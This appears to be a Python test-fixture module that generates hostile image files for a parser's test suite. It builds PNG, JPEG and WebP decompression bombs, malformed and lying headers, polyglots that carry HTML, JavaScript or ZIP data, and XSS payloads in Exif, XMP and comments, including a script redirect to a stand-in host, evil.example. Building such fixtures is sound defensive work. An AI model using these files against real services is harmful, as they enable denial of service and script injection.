"""Rasters that no honest program writes: bombs, lies, damage, stowaways, and other formats under a logo's name."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator, Mapping

from PIL import Image

from tests.picture.honest_rasters import chart, chunk, indexes, png_of, rows_of, saved

PAYLOAD = b"payload-7f3a"
"""What a stowaway is known by."""

SCRIPT = b"<script>location='https://evil.example/" + PAYLOAD + b"'</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>" + SCRIPT + b"</svg>"
START = b"\x89PNG\r\n\x1a\n"
END = chunk(b"IEND", b"")


def header(width: int, height: int, depth: int = 8, kind: int = 6, rest: bytes = b"\0\0\0") -> bytes:
    """PNG's first chunk."""
    return chunk(b"IHDR", struct.pack(">IIBB", width, height, depth, kind) + rest)


def png(*between: bytes, behind: bytes = b"") -> bytes:
    """A good small PNG with something before its pixels, and behind its end."""
    good = png_of(2, 8, rows_of(3, 8))
    at = good.index(b"IDAT") - 4
    return good[:at] + b"".join(between) + good[at:] + behind


def flat(width: int, height: int, depth: int = 8, kind: int = 0, more: int = 0) -> bytes:
    """A PNG of zeros, as small as they pack, and more of them than there are pixels."""
    bits = depth * {0: 1, 2: 3, 3: 1, 4: 2, 6: 4}[kind]
    pixels = zeros(height * (1 + (width * bits + 7) // 8) + more)
    return START + header(width, height, depth, kind) + chunk(b"IDAT", pixels) + END


def zeros(count: int) -> bytes:
    """So many zeros, packed: a million once, and the piece again and again (RFC 1950, RFC 1951)."""
    million = bytes(1_000_000)
    packer = zlib.compressobj(9, wbits=-15)
    piece = packer.compress(million) + packer.flush(zlib.Z_FULL_FLUSH)
    times, rest = divmod(count, len(million))
    last = zlib.compressobj(9, wbits=-15)
    total = 1
    for _ in range(times):
        total = zlib.adler32(million, total)
    total = zlib.adler32(bytes(rest), total)
    return b"\x78\xda" + piece * times + last.compress(bytes(rest)) + last.flush() + struct.pack(">I", total)


def jpeg(mode: str = "RGB", **options: object) -> bytes:
    """A good small JPEG."""
    return saved(chart(mode), "JPEG", **{"quality": 90, **options})


def segment(marker: int, content: bytes) -> bytes:
    """A segment of JPEG."""
    return struct.pack(">BBH", 255, marker, len(content) + 2) + content


def with_segments(*segments: bytes, data: bytes | None = None) -> bytes:
    """A JPEG with something behind its start."""
    data = data or jpeg()
    return data[:2] + b"".join(segments) + data[2:]


def changed(data: bytes, at: int, new: bytes) -> bytes:
    """Bytes with some put over others."""
    return data[:at] + new + data[at + len(new) :]


def frame_at(data: bytes) -> int:
    """Where a JPEG's frame begins."""
    return next(data.index(bytes([255, marker, 0])) for marker in (0xC0, 0xC2) if bytes([255, marker, 0]) in data)


def scans(copies: int, width: int = 64, height: int = 64) -> bytes:
    """A progressive JPEG whose last scan comes again and again."""
    data = saved(Image.new("RGB", (width, height), "#336699"), "JPEG", progressive=True)
    last = data.rindex(b"\xff\xda")
    return data[:last] + data[last:-2] * copies + b"\xff\xd9"


def exif(content: bytes) -> bytes:
    """Exif data with a description."""
    return b"MM\0*" + struct.pack(">IHHHII", 8, 1, 0x010E, 2, len(content), 26) + b"\0\0\0\0" + content


def webp_file(*chunks: tuple[bytes, bytes]) -> bytes:
    """A WebP of chunks."""
    body = b"".join(struct.pack("<4sI", name, len(part)) + part + b"\0" * (len(part) % 2) for name, part in chunks)
    return struct.pack("<4sI4s", b"RIFF", len(body) + 4, b"WEBP") + body


def canvas(width: int, height: int, flags: int) -> tuple[bytes, bytes]:
    """WebP's word of what is to come."""
    return b"VP8X", bytes([flags, 0, 0, 0]) + (width - 1).to_bytes(3, "little") + (height - 1).to_bytes(3, "little")


def pixels_of(data: bytes) -> tuple[bytes, bytes]:
    """The chunk of a simple WebP."""
    return data[12:16], data[20 : 20 + int.from_bytes(data[16:20], "little")]


def lossy() -> tuple[bytes, bytes]:
    return pixels_of(saved(chart("RGB"), "WEBP"))


def lossless() -> tuple[bytes, bytes]:
    return pixels_of(saved(chart("RGB"), "WEBP", lossless=True))


WIDE, HIGH = 128, 96


def moving(form: str, **options: object) -> bytes:
    """Two pictures, one after the other."""
    return saved(chart("RGB"), form, save_all=True, append_images=[chart("RGB").rotate(180)], **options)


def archive() -> bytes:
    """A ZIP with a page."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as opened:
        opened.writestr("index.html", SCRIPT)
    return out.getvalue()


def garbage_profile() -> bytes:
    """What looks like a profile up to its head's end."""
    return (struct.pack(">I4sI4s4s4s12x4s", 4096, b"", 0x04300000, b"mntr", b"RGB ", b"XYZ ", b"acsp").ljust(128, b"\0")
            + struct.pack(">I", 0xFFFFFFFF) + PAYLOAD * 300)  # fmt: skip


def deep_profile() -> bytes:
    """A profile that says its table has 255 places in each of fifteen directions."""
    lut = struct.pack(">4s4xBBBx", b"mft1", 15, 3, 255) + bytes(500)
    head = struct.pack(">I4sI4s4s4s12x4s", 144 + len(lut), b"", 0x02400000, b"prtr", b"CMYK", b"Lab ", b"acsp")
    return head.ljust(128, b"\0") + struct.pack(">I4sII", 1, b"A2B0", 144, len(lut)) + lut


def cuts() -> Iterator[tuple[str, Callable[[], bytes]]]:
    """A PNG, a JPEG and a WebP that end at each of their parts, and in the middle of the pixels."""
    whole = png_of(3, 8, indexes(), (b"PLTE", bytes(144)), (b"tRNS", bytes(20)))
    places, at = [], 8
    while at < len(whole):
        places.append(at)
        at += 12 + int.from_bytes(whole[at : at + 4], "big")
    for place in [*places, whole.index(b"IDAT") + 20, len(whole) - 2]:
        yield f"PNG cut at byte {place}", lambda place=place: whole[:place]
    photo = jpeg()
    for name, place in [("its start", 3), ("a table", 40), ("its frame", frame_at(photo) + 5), ("its pixels", -300)]:
        yield f"JPEG cut in {name}", lambda place=place: photo[:place]
    small = saved(chart("RGB"), "WEBP")
    for place in (12, 19, 25, 30, len(small) // 2):
        yield f"WebP cut at byte {place}", lambda place=place: small[:place]


def _other(form: str, mode: str = "RGB", **options: object) -> Callable[[], bytes]:
    return lambda: saved(chart(mode), form, **options)


HOSTILE: Mapping[str, Callable[[], bytes]] = {
    # Bombs
    "144 million pixels in 17 kB": lambda: flat(12_000, 12_000, 1),
    "four billion pixels said": lambda: START + header(65_535, 65_535) + chunk(b"IDAT", zeros(1_000_000)) + END,
    "2³¹ pixels to a side": lambda: START + header(0x7FFFFFFF, 1) + chunk(b"IDAT", zeros(1_000_000)) + END,
    "2³² − 1 pixels to a side": lambda: START + header(0xFFFFFFFF, 0xFFFFFFFF) + chunk(b"IDAT", zeros(1_000_000)) + END,
    "12 million clear pixels": lambda: flat(4_000, 3_000, 8, 6),
    "12 million pixels of 16 bits": lambda: flat(4_000, 3_000, 16, 6),
    "12 million pixels of 16 bits, one clear": lambda: _inserted(flat(4_000, 3_000, 16, 2), chunk(b"tRNS", bytes(6))),
    "12 million pixels in grey with a wide profile": lambda: _inserted(
        flat(4_000, 3_000, 8, 0), chunk(b"gAMA", struct.pack(">I", 100_000))
    ),
    "200 MB behind the pixels": lambda: flat(16, 16, more=200_000_000),
    "200 MB in a profile": lambda: png(chunk(b"iCCP", b"p\0\0" + zeros(200_000_000))),
    "200 MB in a packed text": lambda: png(chunk(b"zTXt", b"t\0\0" + zeros(200_000_000))),
    "200 MB in an international text": lambda: png(chunk(b"iTXt", b"t\0\1\0\0\0" + zeros(200_000_000))),
    "forty packed texts of 20 MB": lambda: png(*[chunk(b"zTXt", b"t\0\0" + zeros(20_000_000))] * 40),
    "4 MB and a byte": lambda: png(behind=bytes(4 * 1024 * 1024)),
    "300,000 chunks": lambda: png(chunk(b"tEXt", b"") * 300_000),
    "20,000 chunks of pixels": lambda: START + header(8, 8) + chunk(b"IDAT", b"") * 20_000 + END,
    "16,384 by 1": lambda: flat(16_384, 1),
    "1 by 16,384": lambda: flat(1, 16_384),
    "1 by 12 million": lambda: START + header(1, 12_000_000, 8, 0) + chunk(b"IDAT", zeros(24_000_000)) + END,
    "JPEG of 65,500 to a side": lambda: _resized(jpeg(), 65_500, 65_500),
    "JPEG of 65,500 by 100": lambda: _resized(jpeg(), 65_500, 100),
    "JPEG of 5,000 scans": lambda: scans(5_000),
    "JPEG of 12 million pixels and 80 scans": lambda: scans(80, 4_000, 3_000),
    "JPEG with 100 MB of marks": lambda: with_segments(segment(0xFE, bytes(65_000)) * 1_540),
    "JPEG with a million empty marks": lambda: with_segments(segment(0xFE, b"") * 1_000_000),
    "JPEG with 4 MB of filling": lambda: jpeg()[:2] + b"\xff" * 4_000_000 + jpeg()[2:],
    "WebP of 16,383 to a side": lambda: webp_file((b"VP8L", struct.pack("<BI", 0x2F, 0x0FFFBFFE) + bytes(40))),
    "WebP on a canvas of 16 million to a side": lambda: webp_file(canvas(1 << 24, 1 << 24, 0), lossy()),
    # Lies
    "no pixels wide": lambda: START + header(0, 10) + chunk(b"IDAT", zlib.compress(bytes(50))) + END,
    "more rows than there are": lambda: START + header(64, 4000, 8, 2) + chunk(b"IDAT", zlib.compress(bytes(193))) + END,
    "fewer rows than there are": lambda: START + header(8, 8, 8, 2) + chunk(b"IDAT", zlib.compress(bytes(99_999))) + END,
    "a chunk of 4 GB": lambda: png(struct.pack(">I4s", 0xFFFFFFFF, b"tEXt")),
    "a chunk of 2 GB that matters": lambda: START + header(8, 8) + struct.pack(">I4s", 0x7FFFFFFF, b"IDAT") + bytes(99),
    "a wrong sum in the header": lambda: changed(png(), 29, b"\0\0\0\0"),
    "a wrong sum in the pixels": lambda: changed(png(), len(png()) - 16, b"\0\0\0\0"),
    "a wrong sum in a text": lambda: png(chunk(b"tEXt", b"a\0" + PAYLOAD)[:-4] + b"\0\0\0\0"),
    "two headers": lambda: png(header(9_999, 9_999)),
    "a header of 14 bytes": lambda: START + chunk(b"IHDR", bytes(14)) + END,
    "pixels before the header": lambda: START + chunk(b"IDAT", b"") + header(8, 8) + END,
    "no pixels": lambda: START + header(8, 8) + END,
    "pixels in two places": lambda: START + header(8, 8, 8, 0) + chunk(b"IDAT", zlib.compress(bytes(72)))
    + chunk(b"tEXt", b"a\0b") + chunk(b"IDAT", b"x") + END,
    "a chunk that matters and nobody knows": lambda: png(chunk(b"EVIL", PAYLOAD)),
    "3 bits of colour": lambda: START + header(8, 8, 3, 2) + chunk(b"IDAT", zlib.compress(bytes(99))) + END,
    "colour type 7": lambda: START + header(8, 8, 8, 7) + chunk(b"IDAT", zlib.compress(bytes(999))) + END,
    "a packing nobody knows": lambda: START + header(8, 8, 8, 0, b"\1\0\0") + chunk(b"IDAT", b"x") + END,
    "a filter nobody knows": lambda: START + header(8, 8, 8, 0) + chunk(b"IDAT", zlib.compress(b"\x09" * 72)) + END,
    "a palette index without a colour": lambda: png_of(3, 8, [[200] * 8] * 8, (b"PLTE", b"\1\2\3")),
    "no palette": lambda: png_of(3, 8, indexes()),
    "a palette of 300 colours": lambda: png_of(3, 8, indexes(), (b"PLTE", bytes(900))),
    "more alphas than colours": lambda: png_of(3, 8, indexes(), (b"PLTE", bytes(144)), (b"tRNS", PAYLOAD * 30)),
    "interlaced and cut": lambda: START + header(64, 64, 8, 2, b"\0\0\1")
    + chunk(b"IDAT", zlib.compress(bytes(600))) + END,
    "broken packing": lambda: START + header(8, 8, 8, 0) + chunk(b"IDAT", b"\x78\x9c" + b"\xff" * 50) + END,
    "JPEG of another size than its data": lambda: _resized(jpeg(), 3_000, 3_000),
    "JPEG without a height": lambda: _resized(jpeg(), 100, 0),
    "JPEG with two frames": lambda: _resized(with_segments(_frame(jpeg())), 3_000, 3_000),
    "JPEG of 12 bits": lambda: changed(jpeg(), frame_at(jpeg()) + 4, b"\x0c"),
    "JPEG by arithmetic coding": lambda: changed(jpeg(), frame_at(jpeg()) + 1, b"\xc9"),
    "JPEG without loss": lambda: changed(jpeg(), frame_at(jpeg()) + 1, b"\xc3"),
    "JPEG of seven colours": lambda: changed(jpeg(), frame_at(jpeg()) + 9, b"\x07"),
    "JPEG with samplings of 15": lambda: changed(jpeg(), frame_at(jpeg()) + 11, b"\xff"),
    "JPEG with bad Huffman tables": lambda: changed(jpeg(), jpeg().index(b"\xff\xc4") + 5, b"\xff" * 16),
    "JPEG without Huffman tables": lambda: jpeg().replace(b"\xff\xc4", b"\xff\xfe"),
    "JPEG without weights": lambda: jpeg().replace(b"\xff\xdb", b"\xff\xfe"),
    "JPEG with a scan before its frame": lambda: with_segments(segment(0xDA, b"\1\1\0\0\x3f\0")),
    "JPEG with a scan of 200 colours": lambda: with_segments(segment(0xDA, b"\xc8" + bytes(403))),
    "JPEG with a mark longer than the file": lambda: with_segments(b"\xff\xfe\xff\xff"),
    "JPEG with a mark of no length": lambda: with_segments(b"\xff\xfe\0\0"),
    "JPEG of nothing but starts": lambda: b"\xff\xd8" * 5_000 + b"\xff\xd9",
    "WebP whose canvas is smaller than its picture": lambda: webp_file(canvas(8, 8, 0), lossy()),
    "WebP whose canvas is larger than its picture": lambda: webp_file(canvas(3_000, 3_000, 0), lossy()),
    "WebP longer than its file": lambda: changed(webp_file(lossy()), 4, b"\xff\xff\xff\x7f"),
    "WebP with a chunk of 4 GB": lambda: changed(webp_file(lossy()), 16, b"\xff\xff\xff\xff"),
    "WebP of nothing": lambda: webp_file(),
    "WebP of no width": lambda: _thin(webp_file(lossy())),
    "WebP with a picture between pictures": lambda: changed(webp_file(lossy()), 20, b"\1"),
    "WebP with garbage for alpha": lambda: webp_file(canvas(WIDE, HIGH, 0x10), (b"ALPH", b"\xff" + PAYLOAD * 9), lossy()),
    "WebP with zeros for pixels": lambda: webp_file((b"VP8L", lossless()[1][:5] + bytes(4_000))),
    "WebP of 20,000 chunks": lambda: webp_file(*[(b"JUNK", b"")] * 20_000, lossy()),
    # Pictures that move
    "PNG that moves": lambda: moving("PNG"),
    "PNG that says it moves": lambda: png(chunk(b"acTL", struct.pack(">II", 9, 0))),
    "PNG that moves in one picture": lambda: png(chunk(b"acTL", struct.pack(">II", 1, 0)), chunk(b"fcTL", bytes(26))),
    "WebP that moves": lambda: moving("WEBP"),
    "WebP that says it moves": lambda: webp_file(canvas(WIDE, HIGH, 2), lossy()),
    "JPEG of two pictures": lambda: moving("MPO"),
    # Stowaways
    "PNG with a page behind it": lambda: png(behind=b"<!doctype html><html>" + SCRIPT),
    "PNG with JavaScript behind it": lambda: png(behind=b"\n*/=1;alert('" + PAYLOAD + b"')//"),
    "PNG with a ZIP behind it": lambda: png(behind=archive()),
    "PNG with a page in its texts": lambda: png(*[chunk(kind, b"Comment\0" + SCRIPT) for kind in (b"tEXt", b"eVIl")]),
    "PNG with XMP that runs": lambda: png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + SVG)),
    "PNG with Exif that runs": lambda: png(chunk(b"eXIf", exif(SCRIPT))),
    "PNG with a profile named by a script": lambda: png(chunk(b"iCCP", SCRIPT + b"\0\0" + zlib.compress(b"no profile"))),
    "PNG with garbage for a profile": lambda: png(chunk(b"iCCP", b"p\0\0" + zlib.compress(garbage_profile()))),
    "PNG with no gamma": lambda: png(chunk(b"gAMA", bytes(4)), chunk(b"cHRM", bytes(32))),
    "PNG with the wildest gamma": lambda: png(chunk(b"gAMA", b"\xff" * 4), chunk(b"cHRM", b"\xff" * 32)),
    "PNG with the least gamma": lambda: png(chunk(b"gAMA", b"\0\0\0\1"), chunk(b"cHRM", b"\0\0\0\1" * 8)),
    "JPEG with a page behind it": lambda: jpeg() + b"<!doctype html>" + SCRIPT,
    "JPEG with a ZIP behind it": lambda: jpeg() + archive(),
    "JPEG with a page in its comment": lambda: with_segments(segment(0xFE, SCRIPT)),
    "JPEG that is JavaScript": lambda: jpeg()[:2] + segment(0xE0, b"/*".ljust(12_000, b"x")) + jpeg()[2:]
    + b"*/=1;alert('" + PAYLOAD + b"')",
    "JPEG with Exif that runs": lambda: with_segments(segment(0xE1, b"Exif\0\0" + exif(SCRIPT))),
    "JPEG with Exif that goes in circles": lambda: with_segments(
        segment(0xE1, b"Exif\0\0MM\0*" + struct.pack(">IH", 8, 0xFFFF) + bytes(60_000))
    ),
    "JPEG with XMP that runs": lambda: with_segments(segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + SVG)),
    "JPEG with a picture of itself within": lambda: with_segments(
        segment(0xE1, b"Exif\0\0" + exif(with_segments(segment(0xFE, SCRIPT))))
    ),
    "JPEG with a small picture in its head": lambda: with_segments(
        segment(0xE0, b"JFIF\0\1\1\0\0\1\0\1\x20\x20" + (SCRIPT * 99)[:3072])
    ),
    "JPEG with garbage for a profile": lambda: jpeg(icc_profile=garbage_profile()),
    "JPEG of inks with a profile of fifteen": lambda: jpeg("CMYK", icc_profile=deep_profile()),
    "JPEG with an unending profile": lambda: with_segments(
        *[segment(0xE2, b"ICC_PROFILE\0" + bytes([n, 255]) + bytes(16_000)) for n in range(255)]
    ),
    "JPEG with Photoshop's resources": lambda: with_segments(segment(0xED, b"Photoshop 3.0\08BIM" + SCRIPT)),
    "WebP with a page behind it": lambda: webp_file(lossy()) + SCRIPT,
    "WebP with Exif, XMP and a profile that run": lambda: webp_file(
        canvas(WIDE, HIGH, 0x2C), (b"ICCP", garbage_profile()), lossy(), (b"EXIF", exif(SCRIPT)), (b"XMP ", SVG)
    ),
    "WebP with a chunk nobody knows": lambda: webp_file(canvas(WIDE, HIGH, 0), (b"EVIL", SCRIPT), lossless()),
    # Other things under a logo's name
    "PostScript": lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(" + PAYLOAD + b") run\n",
    "PDF": lambda: b"%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(alert)>>>>endobj\n%%EOF",
    "GIF": _other("GIF"),
    "BMP": _other("BMP"),
    "TIFF": _other("TIFF"),
    "ICO": _other("ICO"),
    "AVIF": _other("AVIF"),
    "JPEG 2000": _other("JPEG2000"),
    "Photoshop": lambda: b"8BPS\0\1" + bytes(6) + struct.pack(">HIIHH", 3, 30_000, 30_000, 8, 3) + bytes(99),
    "JPEG XL": lambda: b"\0\0\0\x0cJXL \r\n\x87\n\0\0\0\x14ftypjxl \0\0\0\0jxl ",
    "a page that begins as a GIF": lambda: b"GIF89a/*<html>" + SCRIPT + b"*/=0",
    "nothing": lambda: b"",
    "one byte": lambda: b"\x89",
    "zeros": lambda: bytes(100_000),
    **dict(cuts()),
}  # fmt: skip
"""Name → a file."""


def _inserted(data: bytes, part: bytes) -> bytes:
    at = data.index(b"IDAT") - 4
    return data[:at] + part + data[at:]


def _frame(data: bytes) -> bytes:
    at = frame_at(data)
    return data[at : at + 2 + int.from_bytes(data[at + 2 : at + 4], "big")]


def _resized(data: bytes, width: int, height: int) -> bytes:
    return changed(data, frame_at(data) + 5, struct.pack(">HH", height, width))


def _thin(data: bytes) -> bytes:
    return changed(data, data.index(b"\x9d\x01\x2a") + 3, b"\0\0\0\0")
